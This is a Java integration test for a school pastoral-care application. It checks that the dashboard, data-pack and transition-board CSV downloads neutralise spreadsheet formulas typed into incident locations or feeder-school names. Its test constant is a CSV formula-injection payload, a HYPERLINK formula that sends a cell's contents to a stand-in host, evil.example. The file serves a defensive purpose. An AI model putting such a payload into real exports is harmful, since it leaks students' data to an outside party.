package org.pastoralflow.reporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.pastoralflow.student.Student;
import org.pastoralflow.student.StudentRepository;
import org.pastoralflow.student.UpnTestSupport;
import org.pastoralflow.support.PostgresIntegrationTest;
import org.pastoralflow.support.Web;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;

/**
 * Text staff type reaches the CSV downloads as text: a place of incident or a feeder school's name
 * that a spreadsheet would run as a formula comes out with a leading quote (documents.CsvExport),
 * in the dashboards' CSV, the data pack's and the cohort board's.
 */
@PostgresIntegrationTest
class FormulaCellsIntegrationTest {

    static final String LINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"open\")";
    /** Autumn 2025 (V3__term_dates.sql): no other test records incidents then, so this place is among the named ones. */
    static final long AUTUMN_2025 = 1;

    @Autowired MockMvc mvc;
    @Autowired StudentRepository students;

    static List<List<String>> cells(byte[] body) throws Exception {
        String text = new String(body, StandardCharsets.UTF_8);
        assertThat(text).as("UTF-8 with a byte-order mark").startsWith("\uFEFF");
        List<List<String>> rows = new ArrayList<>();
        for (CSVRecord r : CSVFormat.DEFAULT.parse(new StringReader(text.substring(1)))) {
            rows.add(r.toList());
        }
        return rows;
    }

    static void neutralised(List<List<String>> rows, String what) {
        assertThat(rows.stream().flatMap(List::stream)).as(what).contains("'" + LINK)
                .noneMatch(cell -> cell.startsWith("=") || cell.startsWith("@"));
    }

    byte[] download(MockHttpSession session, String path) throws Exception {
        return mvc.perform(get(path).session(session)).andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
    }

    @Test
    void aFormulaTypedAsAPlaceOrASchoolNameIsTextInEveryCsv() throws Exception {
        Student student = students.findByUpn("U873400126000").orElseThrow(); // the demo school's first
        mvc.perform(post("/investigations").session(Web.signIn(mvc, "teacher")).with(csrf())
                        .param("occurredOn", "2025-10-08").param("occurredTime", "10:40").param("location", LINK)
                        .param("type", "damage").param("description", "A formula typed as the place " + System.nanoTime())
                        .param("upn-0", student.getUpn()).param("part-0", "alleged-perpetrator"))
                .andExpect(status().is3xxRedirection());

        MockHttpSession lead = Web.signIn(mvc, "lead");
        List<List<String>> dashboard = cells(download(lead, "/dashboards/incidents-location.csv?term=" + AUTUMN_2025));
        neutralised(dashboard, "the dashboard's CSV");
        assertThat(new String(download(lead, "/dashboards/incidents-location.csv?term=" + AUTUMN_2025), StandardCharsets.UTF_8))
                .as("CRLF line ends").contains("\r\n");
        neutralised(cells(download(lead, "/reports/data-pack.csv?term=" + AUTUMN_2025 + "&edition=leaders")), "the data pack's CSV");

        String upn = UpnTestSupport.valid("986210020001");
        String list = "UPN,Legal Surname,Legal Forename,DOB,Gender,Feeder School,Feeder School URN,SEN Status,EHCP,In Care,CP Plan,"
                + "Parent Name,Parent Phone,Parent Email\n"
                + upn + ",Mensah,Kofi,01/10/2021,M,\"" + LINK.replace("\"", "\"\"") + "\",119986,N,N,N,N,,,\n";
        int year = 2033;
        mvc.perform(multipart("/transition/import").file(new MockMultipartFile("file", "list.csv", "text/csv",
                        list.getBytes(StandardCharsets.UTF_8))).param("year", String.valueOf(year))
                        .param("transitionDayFirst", year + "-07-05").param("transitionDayLast", year + "-07-06")
                        .param("interviewsDue", year + "-06-23").session(lead).with(csrf()))
                .andExpect(status().isOk());
        neutralised(cells(download(lead, "/transition/board.csv?year=" + year)), "the cohort board's CSV");
    }
}
